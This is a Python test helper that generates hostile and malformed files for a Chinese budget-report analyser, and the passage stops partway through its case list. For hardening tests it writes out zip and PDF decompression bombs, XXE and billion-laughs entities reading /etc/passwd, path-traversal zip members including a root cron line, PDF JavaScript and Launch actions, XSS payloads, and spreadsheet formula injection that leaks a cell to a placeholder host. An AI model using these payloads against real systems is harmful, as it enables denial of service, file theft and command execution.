"""A corpus of broken and hostile input files, made on the fly (nothing
binary is committed).

    python tests/hostile_corpus.py OUT_DIR      # writes the files and OUT_DIR/cases.json

Each case has a class (truncated, scanned, encrypted, renamed, encoding,
zip, pdf, html, text, garbage), what it should give — "ok" (a report,
possibly empty), "error" (a one-line InputError) or "any" (either, as long
as it is clean and within budget) — and words the error must contain.
`tests/test_hostile_corpus.py` runs every file through `analyze`,
`juesuan score` and `juesuan batch` under a time and memory budget.

Needs reportlab and pypdf (the test extras) for the PDFs, python-docx for
the DOCX files.
"""
from __future__ import annotations

import io
import json
import os
import random
import struct
import sys
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
if str(REPO) not in sys.path:
    sys.path.insert(0, str(REPO))

REPORT_LINES = [
    "城西区文化和旅游局2024年度部门决算公开说明",
    "一、收入支出决算总体情况说明",
    "2024年度收入总计 1204.56 万元，比上年增加 120.30 万元，增长 11.10%，主要原因是新增文化惠民演出经费。",
    "二、一般公共预算财政拨款支出决算情况说明",
    "1.文化旅游体育与传媒支出（类）文化和旅游（款）群众文化（项）：支出决算数为 210.50 万元，比上年决算减少 20.50 万元，下降 8.87%，主要原因是压减非急需支出。",
    "2.住房保障支出（类）住房改革支出（款）住房公积金（项）：支出决算数为 18.00 万元，比上年决算增加 1.20 万元，增长 7.14%，主要原因是新录用工作人员 2 名。",
    "三、“三公”经费支出决算情况说明",
    "公务接待费支出决算 0.58 万元，比上年决算减少 0.15 万元，下降 20.55%，主要原因是严格执行中央八项规定精神，压减接待批次。",
]
REPORT_TEXT = "\n".join(REPORT_LINES) + "\n"
PAYLOAD_SCRIPT = "<script>document.title='pwned';window.__pwned=1</script>"
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")'
UNREACHABLE = "http://127.0.0.1:9/"  # the discard port on this machine: nothing listens


@dataclass
class Case:
    name: str  # file name, with the extension the file arrives with
    cls: str  # class of bad input
    what: str  # one line: what the file is
    make: Callable[[], bytes | None]
    expect: str = "any"  # ok | error | any
    words: list[str] = field(default_factory=list)  # the error message contains each (lower case)
    min_explanations: int = 0  # an "ok" result must find at least this many
    size: int | None = None  # a sparse file of this size instead of make()'s bytes
    place: Callable[[Path], None] | None = None  # makes the path itself (a FIFO, a link) instead of make()'s bytes


# ------------------------------------------------------------------ builders

def _cjk_font() -> str:
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont

    if "STSong-Light" not in pdfmetrics.getRegisteredFontNames():
        pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    return "STSong-Light"


def report_pdf(pages: int = 2, lines: list[str] | None = None) -> bytes:
    """A PDF of the little report, wrapped at 40 characters a line."""
    from reportlab.pdfgen import canvas

    font = _cjk_font()
    buf = io.BytesIO()
    c = canvas.Canvas(buf)
    for _ in range(pages):
        c.setFont(font, 10)
        y = 800
        for line in lines or REPORT_LINES:
            for i in range(0, len(line), 40):
                c.drawString(30, y, line[i : i + 40])
                y -= 15
        c.showPage()
    c.save()
    return buf.getvalue()


def report_docx(text: str = REPORT_TEXT) -> bytes:
    import docx

    d = docx.Document()
    for line in text.splitlines():
        d.add_paragraph(line)
    buf = io.BytesIO()
    d.save(buf)
    return buf.getvalue()


def _zip(members: list[tuple[zipfile.ZipInfo | str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name"
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for info, data in members:
                z.writestr(info, data)
    return buf.getvalue()


def _docx_members() -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(report_docx())) as z:
        return [(i.filename, z.read(i)) for i in z.infolist()]


def docx_with(extra: list[tuple[zipfile.ZipInfo | str, bytes]] = (), replace: dict[str, bytes] | None = None) -> bytes:
    members = [(n, (replace or {}).get(n, d)) for n, d in _docx_members()]
    return _zip(members + list(extra))


def _deflated_zeros(size: int) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\0" * (1 << 20)
    out = [c.compress(chunk) for _ in range(size >> 20)]
    out.append(c.flush())
    return b"".join(out)


def zip_bomb_ratio() -> bytes:
    """word/document.xml declared and really 40 MB of zeros (~40 KB packed)."""
    size = 40 << 20
    data = _deflated_zeros(size)
    return _raw_zip([("[Content_Types].xml", b"<Types/>", None), ("word/document.xml", data, (size, zlib.crc32(b"\0" * 0)))], crc_of_zeros=size)


def _raw_zip(members, crc_of_zeros: int | None = None) -> bytes:
    """A zip written by hand: (name, stored-or-deflated bytes, None | (size, crc)).
    A member with a (size, crc) is taken as raw deflate data of that size."""
    out = io.BytesIO()
    central = []
    for name, data, meta in members:
        raw = name.encode("utf-8")
        if meta is None:
            method, comp, size, crc = 0, data, len(data), zlib.crc32(data)
        else:
            method, comp, size = 8, data, meta[0]
            crc = _crc_zeros(crc_of_zeros) if crc_of_zeros == size else meta[1]
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, method, 0, 0x21, crc, len(comp), size, len(raw), 0) + raw + comp)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, method, 0, 0x21, crc, len(comp), size, len(raw), 0, 0, 0, 0, 0, offset) + raw)
    cd_start = out.tell()
    cd = b"".join(central)
    out.write(cd)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), len(cd), cd_start, 0))
    return out.getvalue()


def _crc_zeros(size: int) -> int:
    crc = 0
    chunk = b"\0" * (1 << 20)
    for _ in range(size >> 20):
        crc = zlib.crc32(chunk, crc)
    return crc


def zip_bomb_overlap(entries: int = 400) -> bytes:
    """One packed member, `entries` directory records all pointing at it
    (the "better zip bomb"): each declares 1 MB, 400 MB in all, ~4 KB packed."""
    size = 1 << 20
    comp = _deflated_zeros(size)
    crc = _crc_zeros(size)
    out = io.BytesIO()
    raw0 = b"word/document.xml"
    out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(comp), size, len(raw0), 0) + raw0 + comp)
    central = []
    for i in range(entries):
        raw = raw0 if i == 0 else f"word/media/part{i}.xml".encode()
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(comp), size, len(raw), 0, 0, 0, 0, 0, 0) + raw)
    cd_start = out.tell()
    cd = b"".join(central)
    out.write(cd)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), len(cd), cd_start, 0))
    return out.getvalue()


def zip_many_entries(n: int = 10_001) -> bytes:
    return docx_with([(f"customXml/item{i}.xml", b"") for i in range(n)])


def _info(name: str, unix_mode: int | None = None, flag: int = 0) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    if unix_mode is not None:
        info.create_system = 3
        info.external_attr = unix_mode << 16
    info.flag_bits |= flag
    return info


def docx_symlink() -> bytes:
    return docx_with([(_info("word/media/passwd", unix_mode=0o120777), b"/etc/passwd")])


def docx_duplicate() -> bytes:
    return docx_with([("word/document.xml", b"<w:document/>")])


def docx_encrypted_member() -> bytes:
    """A member whose general-purpose flag says "encrypted" (zipfile will not
    write that flag, so it is set in the bytes afterwards)."""
    data = bytearray(docx_with([("word/secret.xml", b"\x00" * 64)]))
    name = b"word/secret.xml"
    for sig, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = data.find(sig)
        while i >= 0:
            name_len = struct.unpack_from("<H", data, i + (26 if sig == b"PK\x03\x04" else 28))[0]
            start = i + (30 if sig == b"PK\x03\x04" else 46)
            if bytes(data[start : start + name_len]) == name:
                struct.pack_into("<H", data, i + flag_at, struct.unpack_from("<H", data, i + flag_at)[0] | 0x1)
            i = data.find(sig, i + 4)
    return bytes(data)


W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _document_xml(body: str, doctype: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{doctype}'
            f'<w:document {W_NS}><w:body>{body}</w:body></w:document>').encode()


def _para(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx_billion_laughs() -> bytes:
    ents = '<!ENTITY lol "lol">' + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
    doctype = f"<!DOCTYPE w:document [{ents}]>"
    body = _para("&lol9;") + "".join(_para(line) for line in REPORT_LINES)
    return docx_with(replace={"word/document.xml": _document_xml(body, doctype)})


def docx_xxe() -> bytes:
    doctype = f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "{UNREACHABLE}xxe">]>'
    body = _para("&xxe;") + _para("&net;") + "".join(_para(line) for line in REPORT_LINES)
    return docx_with(replace={"word/document.xml": _document_xml(body, doctype)})


def docx_external_links() -> bytes:
    members = dict(_docx_members())
    rels = members["word/_rels/document.xml.rels"].decode("utf-8")
    extra = (
        f'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="{UNREACHABLE}a.png" TargetMode="External"/>'
        f'<Relationship Id="rIdX2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="{UNREACHABLE}t.dotm" TargetMode="External"/>'
        f'<Relationship Id="rIdX3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="file:///etc/passwd" TargetMode="External"/>'
    )
    rels = rels.replace("</Relationships>", extra + "</Relationships>")
    return docx_with(replace={"word/_rels/document.xml.rels": rels.encode("utf-8")})


def xlsx_bytes() -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active.append(["项目", "金额"])
    wb.active.append(["本年收入", 120])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


# ------------------------------------------------------------------ raw PDFs

def raw_pdf(objects: dict[int, bytes], root: int = 1, trailer_extra: bytes = b"") -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += f"{num} 0 obj\n".encode() + objects[num] + b"\nendobj\n"
    xref = len(out)
    size = max(objects) + 1
    out += f"xref\n0 {size}\n".encode()
    for i in range(size):
        out += f"{offsets[i]:010d} 00000 n \n".encode() if i in offsets else b"0000000000 65535 f \n"
    out += f"trailer\n<< /Size {size} /Root {root} 0 R ".encode() + trailer_extra + f">>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def stream(entries: bytes, data: bytes) -> bytes:
    return b"<< " + entries + f" /Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream"


ASCII_PAGE = b"BT /F1 11 Tf 40 780 Td (Annual final accounts report of the district culture bureau, page text.) Tj ET"


def _simple_pdf(content: bytes, content_entries: bytes = b"", pages_extra: bytes = b"", catalog_extra: bytes = b"", extra: dict | None = None) -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 " + pages_extra + b">>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        4: stream(content_entries, content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    objects.update(extra or {})
    return raw_pdf(objects)


def _flate_bomb(size: int) -> bytes:
    c = zlib.compressobj(9)
    chunk = b" " * (1 << 20)
    return b"".join([c.compress(chunk) for _ in range(size >> 20)] + [c.flush()])


def pdf_flate_bomb() -> bytes:
    """A page whose content stream inflates to 140 MB of spaces (~140 KB)."""
    return _simple_pdf(_flate_bomb(140 << 20), b"/Filter /FlateDecode")


def pdf_ratio_bomb() -> bytes:
    """20 MB from ~20 KB: under the size cap, over the ratio cap."""
    c = zlib.compressobj(9)
    data = c.compress(b"\0" * (20 << 20)) + c.flush()
    return _simple_pdf(ASCII_PAGE, extra={6: stream(b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Filter /FlateDecode", data)})


def pdf_objstm_bomb() -> bytes:
    data = _flate_bomb(140 << 20)
    return _simple_pdf(ASCII_PAGE, extra={6: stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", data)})


def pdf_many_pages(n: int = 3_000) -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        4: stream(b"", ASCII_PAGE),
    }
    kids = []
    for i in range(n):
        num = 10 + i
        kids.append(f"{num} 0 R".encode())
        objects[num] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>"
    objects[2] = b"<< /Type /Pages /Kids [" + b" ".join(kids) + f"] /Count {n} >>".encode()
    return raw_pdf(objects)


def pdf_page_tree_cycle() -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>",
        3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1000000 >>",
    }
    return raw_pdf(objects)


def pdf_deep_nesting(depth: int = 200_000) -> bytes:
    deep = b"[" * depth + b"]" * depth
    return _simple_pdf(ASCII_PAGE + b"\n" + b"[" * depth, extra={6: deep}, catalog_extra=b"/Deep 6 0 R ")


def pdf_broken_xref() -> bytes:
    good = _simple_pdf(ASCII_PAGE)
    i = good.rindex(b"\nxref\n") + 1
    return good[:i] + b"xref\n0 6\n" + b"9999999999 00000 n \n" * 6 + good[good.index(b"trailer", i):]


def pdf_huge_length() -> bytes:
    good = _simple_pdf(ASCII_PAGE)
    return good.replace(f"/Length {len(ASCII_PAGE)}".encode(), b"/Length 99999999999999999999")


def pdf_many_streams(n: int = 100_000) -> bytes:
    """A file of 100,000 little Flate streams: the stream scan stays linear."""
    tiny = zlib.compress(b"q Q ")
    body = b"".join(b"%d 0 obj\n" % (10 + i) + stream(b"/Filter /FlateDecode", tiny) + b"\nendobj\n" for i in range(n))
    good = _simple_pdf(ASCII_PAGE)
    i = good.rindex(b"\nxref\n") + 1
    return good[:i] + body + good[i:]


def pdf_actions() -> bytes:
    """A readable report PDF that asks to run JavaScript, open a URL and
    launch a program when opened, with a link annotation: none of it runs."""
    import pypdf
    from pypdf.annotations import Link
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(report_pdf(2))))
    js = DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject(f"app.launchURL('{UNREACHABLE}js', true); this.submitForm('{UNREACHABLE}form');"),
    })
    writer._root_object[NameObject("/Names")] = DictionaryObject({
        NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("open"), writer._add_object(js)])}),
    })
    writer.add_annotation(page_number=0, annotation=Link(rect=(30, 30, 200, 60), url=UNREACHABLE + "link"))
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("/bin/sh"),
    })
    writer._root_object[NameObject("/URI")] = DictionaryObject({NameObject("/Base"): TextStringObject(UNREACHABLE)})
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def pdf_encrypted(algorithm: str, user: str = "kaifang2024") -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(report_pdf(2))))
    writer.encrypt(user_password=user, owner_password="owner2024", algorithm=algorithm)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def pdf_scanned(title: str = "") -> bytes:
    """A page that is one image (a gray bitmap), optionally with a title."""
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas

    png = _png(200, 280)
    buf = io.BytesIO()
    c = canvas.Canvas(buf)
    for _ in range(2):
        c.drawImage(ImageReader(io.BytesIO(png)), 20, 20, width=555, height=800)
        if title:
            c.setFont(_cjk_font(), 12)
            c.drawString(40, 820, title)
        c.showPage()
    c.save()
    return buf.getvalue()


def pdf_blank() -> bytes:
    import pypdf

    writer = pypdf.PdfWriter()
    for _ in range(3):
        writer.add_blank_page(width=595, height=842)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def _png(w: int, h: int) -> bytes:
    rng = random.Random(3)
    raw = b"".join(b"\0" + bytes(rng.randrange(180, 256) for _ in range(w)) for _ in range(h))

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 0, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


# ------------------------------------------------------------------ text and HTML

def _html(body: str, head: str = "") -> str:
    return f"<!DOCTYPE html><html><head><meta charset='utf-8'>{head}</head><body>{body}</body></html>"


def html_report() -> str:
    return _html("".join(f"<p>{line}</p>" for line in REPORT_LINES))


def html_external() -> bytes:
    head = (f"<base href='{UNREACHABLE}'><link rel=stylesheet href='{UNREACHABLE}s.css'>"
            f"<meta http-equiv=refresh content='0;url={UNREACHABLE}r'><script src='{UNREACHABLE}x.js'></script>")
    body = (f"<img src='{UNREACHABLE}i.png'><iframe src='{UNREACHABLE}f'></iframe><object data='{UNREACHABLE}o'></object>"
            f"<svg><image href='{UNREACHABLE}svg.png'/></svg>" + "".join(f"<p>{line}</p>" for line in REPORT_LINES))
    doctype = f'<!DOCTYPE html SYSTEM "{UNREACHABLE}dtd">'
    return (doctype + f"<html><head><meta charset='utf-8'>{head}</head><body>{body}</body></html>").encode("utf-8")


def html_xss() -> bytes:
    lines = list(REPORT_LINES)
    lines[4] = lines[4].replace("压减非急需支出", "压减非急需支出&lt;script&gt;window.__pwned=1&lt;/script&gt;")
    lines[5] = lines[5].replace("新录用工作人员 2 名", "新录用工作人员 2 名\"&gt;&lt;img src=x onerror=alert(1)&gt;")
    body = "".join(f"<p>{line}</p>" for line in lines) + "<p onclick=alert(1)>javascript:alert(1)</p>"
    return _html(body).encode("utf-8")


def text_report_with(old: str, new: str) -> bytes:
    return REPORT_TEXT.replace(old, new).encode("utf-8")


def pump(unit: str, size: int) -> bytes:
    return (unit * (size // len(unit.encode("utf-8")) + 1)).encode("utf-8")[:size].decode("utf-8", "ignore").encode("utf-8")


KB = 1024


def cases() -> list[Case]:
    from tests import hostile_batch  # imports Case from here

    rng = random.Random(11)
    pdf = report_pdf(3)
    docx = report_docx()
    html = html_report()
    return [
        # -- truncated downloads
        Case("cut_10pct.pdf", "truncated", "a report PDF cut at 10 %", lambda: pdf[: len(pdf) // 10], "error", ["pdf"]),
        Case("cut_50pct.pdf", "truncated", "a report PDF cut in half", lambda: pdf[: len(pdf) // 2], "any"),
        Case("cut_99pct.pdf", "truncated", "a report PDF missing its last 1 % (xref, trailer)", lambda: pdf[: len(pdf) * 99 // 100], "any"),
        Case("cut_half.docx", "truncated", "a DOCX cut in half (no central directory)", lambda: docx[: len(docx) // 2], "error", ["zip"]),
        Case("cut_midtag.html", "truncated", "an HTML report cut inside a tag", lambda: html.encode()[: len(html.encode()) * 2 // 3 + 3], "ok", min_explanations=1),
        Case("cut_midchar_gbk.txt", "truncated", "a GBK report cut inside a character", lambda: REPORT_TEXT.encode("gbk")[:-3] + REPORT_TEXT.encode("gbk")[-3:-2], "ok", min_explanations=3),
        Case("cut_utf16_odd.txt", "truncated", "UTF-16 with BOM cut to an odd length", lambda: ("\ufeff" + REPORT_TEXT).encode("utf-16-le")[:-1], "ok", min_explanations=3),
        # -- scanned images
        Case("scanned.pdf", "scanned", "two pages that are one image each", lambda: pdf_scanned(), "error", ["no text layer"]),
        Case("scanned_with_title.pdf", "scanned", "images with a one-line title of text", lambda: pdf_scanned("城西区文化和旅游局"), "error", ["no text layer"]),
        Case("blank_pages.pdf", "scanned", "three blank pages", pdf_blank, "error", ["no text layer"]),
        # -- password protected
        Case("password_rc4.pdf", "encrypted", "user password, RC4-128", lambda: pdf_encrypted("RC4-128"), "error", ["encrypted"]),
        Case("password_aes256.pdf", "encrypted", "user password, AES-256", lambda: pdf_encrypted("AES-256"), "error", ["encrypted"]),
        Case("owner_password_only.pdf", "encrypted", "owner password only: opens without one", lambda: pdf_encrypted("AES-128", user=""), "ok", min_explanations=3),
        Case("office_encrypted.docx", "encrypted", "an Office-encrypted Word file (an OLE container)", lambda: OLE + b"EncryptedPackage" * 64, "error", ["legacy"]),
        Case("encrypted_member.docx", "encrypted", "a DOCX with a member flagged encrypted", docx_encrypted_member, "error", ["encrypted"]),
        # -- renamed
        Case("word_named.pdf", "renamed", "a DOCX named .pdf", lambda: docx, "ok", min_explanations=3),
        Case("pdf_named.docx", "renamed", "a PDF named .docx", lambda: pdf, "ok", min_explanations=3),
        Case("html_named.pdf", "renamed", "an HTML page named .pdf", lambda: html.encode(), "ok", min_explanations=3),
        Case("text_named.docx", "renamed", "a UTF-8 text named .docx", lambda: REPORT_TEXT.encode(), "ok", min_explanations=3),
        Case("spreadsheet_named.docx", "renamed", "an XLSX named .docx: read as the workbook it is (issue 17)", xlsx_bytes, "ok"),
        Case("png_named.pdf", "renamed", "a PNG image named .pdf", lambda: _png(64, 64), "error", ["binary"]),
        Case("legacy_doc_named.docx", "renamed", "a legacy .doc named .docx", lambda: OLE + b"Microsoft Word" * 100, "error", ["legacy"]),
        Case("zip_of_reports_named.pdf", "renamed", "a zip of reports named .pdf", lambda: _zip([("a.pdf", pdf), ("b.docx", docx)]), "error", ["not a word document"]),
        Case("junk_before_header.pdf", "renamed", "a PDF with 600 bytes of junk before %PDF", lambda: b"\x00junk" * 120 + pdf, "ok", min_explanations=3),
        # -- encodings
        Case("gbk.txt", "encoding", "GBK text", lambda: REPORT_TEXT.encode("gbk"), "ok", min_explanations=3),
        Case("gbk_called_utf8.html", "encoding", "GBK HTML whose meta says UTF-8", lambda: html.encode("gbk"), "ok", min_explanations=3),
        Case("gb18030_4byte.txt", "encoding", "GB18030 with 4-byte characters (𠀀, €)", lambda: (REPORT_TEXT + "𠀀𠀁€\n").encode("gb18030"), "ok", min_explanations=3),
        Case("utf8_bom.txt", "encoding", "UTF-8 with a BOM", lambda: REPORT_TEXT.encode("utf-8-sig"), "ok", min_explanations=3),
        Case("utf16le_nobom.txt", "encoding", "UTF-16 LE without a BOM", lambda: REPORT_TEXT.encode("utf-16-le"), "ok", min_explanations=3),
        Case("utf16be_bom.txt", "encoding", "UTF-16 BE with a BOM", lambda: REPORT_TEXT.encode("utf-16"), "ok", min_explanations=3),
        Case("mojibake.txt", "encoding", "UTF-8 read as Latin-1 and saved as UTF-8 again", lambda: REPORT_TEXT.encode("utf-8").decode("latin-1").encode("utf-8"), "any"),
        Case("mixed_utf8_gbk.txt", "encoding", "UTF-8 lines and GBK lines in one file", lambda: b"".join(line.encode("utf-8" if i % 2 else "gbk") + b"\n" for i, line in enumerate(REPORT_LINES)), "any"),
        Case("big5.txt", "encoding", "Big5 (traditional Chinese)", lambda: "部門決算說明：比上年增加10萬元，主要原因是人員增加。\n".encode("big5") * 20, "any"),
        Case("utf16_lone_surrogates.txt", "encoding", "UTF-16 with unpaired surrogates", lambda: b"\xff\xfe" + REPORT_TEXT.encode("utf-16-le") + b"\x00\xd8\x41\x00" * 50, "ok", min_explanations=3),
        # -- zip containers
        Case("bomb_ratio.docx", "zip", "document.xml: 40 MB of zeros in ~40 KB", zip_bomb_ratio, "error", ["zip bomb"]),
        Case("bomb_overlap.docx", "zip", "400 directory records over one 1 MB member (400 MB)", zip_bomb_overlap, "error", ["zip bomb"]),
        Case("many_members.docx", "zip", "a DOCX with 10,001 extra members", zip_many_entries, "error", ["members"]),
        Case("dotdot_member.docx", "zip", "a member named ../../../../tmp/evil.sh", lambda: docx_with([("../../../../tmp/evil.sh", b"#!/bin/sh\n")]), "error", [".."]),
        Case("absolute_member.docx", "zip", "a member named /etc/cron.d/evil", lambda: docx_with([("/etc/cron.d/evil", b"* * * * * root sh\n")]), "error", ["absolute"]),
        Case("drive_member.docx", "zip", "a member named C:\\Windows\\evil.dll", lambda: docx_with([("C:\\Windows\\evil.dll", b"MZ")]), "error", ["absolute"]),
        Case("backslash_dotdot.docx", "zip", "a member named ..\\..\\evil.bat", lambda: docx_with([("word\\..\\..\\evil.bat", b"@echo off")]), "error", [".."]),
        Case("symlink_member.docx", "zip", "a member that is a symbolic link to /etc/passwd", docx_symlink, "error", ["symbolic link"]),
        Case("duplicate_member.docx", "zip", "word/document.xml twice", docx_duplicate, "error", ["twice"]),
        Case("billion_laughs.docx", "zip", "XML entity expansion (10^9 'lol') in document.xml", docx_billion_laughs, "any"),
        Case("xxe.docx", "zip", "external entities: file:///etc/passwd and a URL", docx_xxe, "any"),
        Case("external_links.docx", "zip", "relationships to a URL image, template and file:// object", docx_external_links, "ok", min_explanations=3),
        Case("xlsx_bomb.docx", "zip", "a spreadsheet zip bomb named .docx", lambda: _raw_zip([("xl/worksheets/sheet1.xml", _deflated_zeros(64 << 20), (64 << 20, 0))], crc_of_zeros=64 << 20), "error", ["zip bomb"]),
        # -- PDF structure
        Case("flate_bomb.pdf", "pdf", "a content stream inflating to 140 MB", pdf_flate_bomb, "error", ["decompression bomb"]),
        Case("ratio_bomb.pdf", "pdf", "a form stream inflating 1000x to 20 MB", pdf_ratio_bomb, "error", ["decompression bomb"]),
        Case("objstm_bomb.pdf", "pdf", "an object stream inflating to 140 MB", pdf_objstm_bomb, "error", ["decompression bomb"]),
        Case("3000_pages.pdf", "pdf", "3,000 pages", pdf_many_pages, "error", ["pages"]),
        Case("page_tree_cycle.pdf", "pdf", "a page tree that contains itself", pdf_page_tree_cycle, "error"),
        Case("deep_nesting.pdf", "pdf", "arrays nested 200,000 deep in an object and a content stream", pdf_deep_nesting, "any"),
        Case("broken_xref.pdf", "pdf", "an xref table of garbage offsets", pdf_broken_xref, "any"),
        Case("huge_length.pdf", "pdf", "a stream /Length of 10^20", pdf_huge_length, "any"),
        Case("100k_streams.pdf", "pdf", "100,000 small Flate streams", pdf_many_streams, "any"),
        Case("actions.pdf", "pdf", "JavaScript, Launch, URI and link actions", pdf_actions, "ok", min_explanations=3),
        Case("header_only.pdf", "pdf", "only a %PDF-1.7 header", lambda: b"%PDF-1.7\n", "error", ["pdf"]),
        # -- HTML
        Case("script_only.html", "html", "a page that is only scripts and styles", lambda: _html("<script>var a=1;</script><style>p{}</style>").encode(), "error", ["no text"]),
        Case("deep_nesting.html", "html", "200,000 nested <div>s", lambda: _html("<div>" * 200_000 + "主要原因是x" + "</div>" * 200_000).encode(), "any"),
        Case("entity_flood.html", "html", "500,000 character references", lambda: _html("<p>" + "&amp;&#20013;&nbsp;" * 500_00 + "</p>" + "".join(f"<p>{line}</p>" for line in REPORT_LINES)).encode(), "any"),
        Case("external_resources.html", "html", "a DTD, base, stylesheet, scripts, images, iframe, refresh to URLs", html_external, "ok", min_explanations=3),
        Case("xss_in_text.html", "html", "markup and javascript: in the report's text", html_xss, "ok", min_explanations=3),
        Case("tag_soup.html", "html", "unclosed and misnested tags, a stray </html>", lambda: ("<html><body><p><b><i>" + REPORT_TEXT.replace("\n", "<tr><td>") + "</p></b></html></table><p>").encode(), "any"),
        # -- text that strains the parser
        Case("trigger_flood.txt", "text", "主要原因是 repeated over 256 KB, one line", lambda: pump("主要原因是", 256 * KB), "any"),
        Case("trigger_lines.txt", "text", "原因： on every line, 256 KB", lambda: pump("原因：\n", 256 * KB), "any"),
        Case("statement_flood.txt", "text", "a statement and a trigger repeated over 256 KB, one paragraph", lambda: pump("支出决算为1万元，比上年增加1万元，主要原因是", 256 * KB), "any"),
        Case("digit_run.txt", "text", "one line of 1 MB of digits", lambda: b"1" * (1024 * KB), "any"),
        Case("one_long_line.txt", "text", "the report repeated on one 256 KB line", lambda: pump(REPORT_TEXT.replace("\n", ""), 256 * KB), "any"),
        Case("tab_flood.txt", "text", "512 KB of tabs after a title", lambda: "偏差原因\t".encode() + b"\t" * (512 * KB), "any"),
        Case("newlines_only.txt", "text", "1 MB of line breaks", lambda: b"\n" * (1024 * KB), "error", ["empty"]),
        Case("control_chars.txt", "text", "text full of control characters", lambda: bytes(rng.randrange(1, 32) for _ in range(8 * KB)), "error", ["binary"]),
        Case("zero_width_bidi.txt", "text", "zero-width spaces, bidi overrides and combining marks in the figures", lambda: text_report_with("1204.56", "12\u200b04\u202e.56\u0301").replace(b"\n", "\u2028\n".encode()), "ok", min_explanations=2),
        Case("formula_injection.txt", "text", "reasons that are spreadsheet formulas", lambda: text_report_with("新增文化惠民演出经费", FORMULA).replace("压减非急需支出".encode(), b"+cmd|' /C calc'!A0").replace("新录用工作人员 2 名".encode(), b"@SUM(1+1)*cmd|' /C calc'!A0"), "ok", min_explanations=3),
        Case("html_payload.txt", "text", "a text report whose reasons are markup", lambda: text_report_with("新增文化惠民演出经费", PAYLOAD_SCRIPT + "<img src=x onerror=alert(1)>"), "ok", min_explanations=3),
        # -- not a report at all
